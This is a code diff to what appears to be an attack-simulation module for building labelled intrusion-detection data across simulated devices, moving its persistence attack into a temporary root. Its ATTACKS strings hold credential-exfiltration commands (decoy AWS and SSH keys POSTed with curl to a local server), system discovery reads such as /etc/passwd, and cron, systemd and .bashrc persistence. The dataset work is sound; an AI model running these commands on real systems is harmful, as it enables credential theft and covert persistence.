@@ -21,7 +21,11 @@ Devices differ in their job mix (non-iid federated clients): :data:`DEVICES`. At
 * ``exfiltration``: planted decoy credentials (``$ROOT/home/.aws/credentials``, an SSH key) read
   and POSTed to the local upload server;
 * ``discovery``: ``cat /etc/services``, ``ss -tulpn``, ``id``, ``uname -a``, ``cat /etc/passwd``;
-* ``persistence``: a cron entry, a systemd unit and a ``.bashrc`` line written into ``$ROOT``.
+* ``persistence``: a cron entry and a systemd unit written into a temporary root
+  (``$ROOT/tmp/rootfs/etc/...``) and a line appended to the decoy home's ``.bashrc``.
+
+Attacks leave nothing a later benign job reads (the backup job archives ``$ROOT/etc``, so the
+persistence attack writes its own temporary root), so a benign window's label stays true.
 """
 from __future__ import annotations
 
@@ -78,9 +82,10 @@ ATTACKS = {
                     'curl -s -X POST --data-binary @$ROOT/tmp/c.txt http://127.0.0.1:$UPLOAD/upload',
     "discovery": 'cat /etc/services > $ROOT/tmp/d1; ss -tulpn > $ROOT/tmp/d2 2>&1; id > $ROOT/tmp/d3; '
                  'uname -a >> $ROOT/tmp/d3; cat /etc/passwd > $ROOT/tmp/d4',
-    "persistence": 'mkdir -p $ROOT/etc/cron.d $ROOT/etc/systemd/system; '
-                   'echo "* * * * * root $ROOT/tmp/update.sh" > $ROOT/etc/cron.d/sys-update; '
-                   'printf "[Service]\\nExecStart=$ROOT/tmp/update.sh\\n" > $ROOT/etc/systemd/system/sys-update.service; '
+    "persistence": 'mkdir -p $ROOT/tmp/rootfs/etc/cron.d $ROOT/tmp/rootfs/etc/systemd/system; '
+                   'echo "* * * * * root $ROOT/tmp/update.sh" > $ROOT/tmp/rootfs/etc/cron.d/sys-update; '
+                   'printf "[Service]\\nExecStart=$ROOT/tmp/update.sh\\n" > '
+                   '$ROOT/tmp/rootfs/etc/systemd/system/sys-update.service; '
                    'echo "$ROOT/tmp/update.sh &" >> $ROOT/home/.bashrc',
 }
 MQTT_JOBS = ("sensor_publish", "mqtt_subscribe")
